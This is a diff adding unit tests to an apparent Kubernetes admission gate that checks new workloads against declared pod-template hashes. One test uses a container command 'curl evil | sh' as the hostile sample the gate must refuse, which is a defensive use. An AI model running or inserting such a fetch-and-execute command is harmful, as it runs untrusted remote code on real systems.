@@ -32,6 +32,7 @@ from changegate.core.change.workloads import (
 )
 from tests.unit.builders import (
     DIGEST,
+    EMERGENCY_MEMBER,
     NEW_IMAGE,
     NOW,
     OLD_IMAGE,
@@ -235,6 +236,66 @@ def test_a_declared_template_admits_exactly_that_template() -> None:
     assert f"is not the declared {declared_hash}" in text
 
 
+# -- new workloads: a create brings its whole template ----------------------------
+
+
+def new_of_kind(kind: str, *command: str) -> dict[str, Any]:
+    """A new object of `kind` running NEW_IMAGE, as a product team would create it."""
+    body = with_command(workload_body(images={"api": NEW_IMAGE}), *command)
+    template = body["spec"]["template"]
+    if kind == "Pod":
+        return {**body, "kind": "Pod", "spec": template["spec"]}
+    if kind in ("Job", "CronJob"):
+        job = {"template": template}
+        spec = job if kind == "Job" else {"schedule": "*/5 * * * *", "jobTemplate": {"spec": job}}
+        return {**body, "kind": kind, "apiVersion": "batch/v1", "spec": spec}
+    return {**body, "kind": kind}
+
+
+def declaring(kind: str, body: dict[str, Any] | None) -> ChangeFacts:
+    """An approved change of the new object: images only, or its template too."""
+    declared_target = target(kind=kind)
+    if body is not None:
+        template = Workload.from_body(body).template
+        declared_target["podTemplateHash"] = pod_template_hash(template)
+    return declared(targets=[declared_target])
+
+
+KINDS = ["Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Pod", "Job", "CronJob"]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_an_images_only_change_does_not_cover_a_new_workload(kind: str) -> None:
+    evil = new_of_kind(kind, "sh", "-c", "curl evil | sh")
+    actual = pod_template_hash(Workload.from_body(evil).template)
+
+    verdict, reason, text = decide(request(None, evil), declaring(kind, None))
+
+    assert (verdict, reason) == (False, Reason.NO_CHANGE)
+    assert f"declares images only, but a new {kind} runs its whole pod template" in text
+    assert actual in text, "the refusal names the hash to declare"
+    assert "--from-file MANIFEST" in text
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_a_change_declaring_the_template_covers_the_new_workload_and_only_it(kind: str) -> None:
+    applied = new_of_kind(kind, "serve")
+    change = declaring(kind, applied)
+
+    assert decide(request(None, applied), change)[:2] == (True, Reason.APPROVED_CHANGE)
+    verdict, _, text = decide(request(None, new_of_kind(kind, "sh")), change)
+    assert verdict is False
+    assert "is not the declared" in text
+
+
+def test_a_create_by_break_glass_needs_no_declared_template() -> None:
+    glass = workload_body(
+        images={"api": NEW_IMAGE}, annotations={"changegate.io/break-glass": "INC-1 down"}
+    )
+    verdict, reason, _ = decide(request(None, glass, user=EMERGENCY_MEMBER))
+    assert (verdict, reason) == (True, Reason.BREAK_GLASS)
+
+
 @pytest.mark.parametrize(
     ("edit", "path"),
     [
@@ -282,6 +343,59 @@ def test_the_canonical_template_ignores_what_the_api_server_fills_in() -> None:
     edited = copy.deepcopy(stored)
     edited["spec"]["dnsPolicy"] = "None"
     assert pod_template_hash(edited) != pod_template_hash(applied)
+
+
+def admitted_pod(applied: dict[str, Any]) -> dict[str, Any]:
+    """What the API server admits for a Pod created from `applied`: defaults, the
+    Priority, DefaultTolerationSeconds and ServiceAccount plugins' additions."""
+    pod = copy.deepcopy(applied)
+    spec = pod["spec"]
+    spec |= {"enableServiceLinks": True, "priority": 0, "preemptionPolicy": "PreemptLowerPriority",
+             "serviceAccountName": "default", "serviceAccount": "default",
+             "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"}  # fmt: skip
+    spec["tolerations"] = [
+        {"key": f"node.kubernetes.io/{t}", "operator": "Exists", "effect": "NoExecute",
+         "tolerationSeconds": 300} for t in ("not-ready", "unreachable")
+    ]  # fmt: skip
+    spec["volumes"] = [{"name": "kube-api-access-x7k2p", "projected": {"defaultMode": 420, "sources": [
+        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
+        {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
+        {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {
+            "apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}},
+    ]}}]  # fmt: skip
+    spec["containers"][0]["volumeMounts"] = [{"name": "kube-api-access-x7k2p", "readOnly": True,
+        "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}]  # fmt: skip
+    return pod
+
+
+def test_a_pod_declared_from_its_manifest_hashes_as_the_pod_admitted() -> None:
+    applied = new_of_kind("Pod", "serve")
+    admitted = admitted_pod(applied)
+    declared_hash = pod_template_hash(Workload.from_body(applied).template)
+
+    assert pod_template_hash(Workload.from_body(admitted).template) == declared_hash
+    # The token volume counts as declared code in any other shape, or mounted elsewhere.
+    admitted["spec"]["containers"][0]["volumeMounts"][0]["mountPath"] = "/evil"
+    assert pod_template_hash(Workload.from_body(admitted).template) != declared_hash
+
+
+def test_a_jobs_own_labels_are_no_declared_configuration() -> None:
+    applied = new_of_kind("Job", "migrate")
+    admitted = copy.deepcopy(applied)
+    admitted["spec"]["template"]["metadata"]["labels"] |= {
+        "controller-uid": "0b5c", "batch.kubernetes.io/job-name": SERVICE
+    }  # fmt: skip
+    assert pod_template_hash(Workload.from_body(admitted).template) == pod_template_hash(
+        Workload.from_body(applied).template
+    )
+
+
+def test_the_cli_reads_each_kinds_template_where_the_webhook_does() -> None:
+    bodies = [new_of_kind(kind, "serve") for kind in KINDS]
+    declared_targets = manifest_targets(bodies, "all.yaml")
+    assert [t.pod_template_hash for t in declared_targets] == [
+        pod_template_hash(Workload.from_body(body).template) for body in bodies
+    ]
 
 
 # -- releases: pause/resume and partitions -------------------------------------
@@ -371,5 +485,5 @@ def test_the_cli_declares_every_workload_of_the_manifest_with_the_webhooks_hash(
 
 
 def test_a_manifest_without_workloads_is_a_usage_error() -> None:
-    with pytest.raises(CommandError, match="no Deployment, StatefulSet or DaemonSet"):
+    with pytest.raises(CommandError, match="no workload"):
         manifest_targets([{"kind": "ConfigMap"}], "cm.yaml")
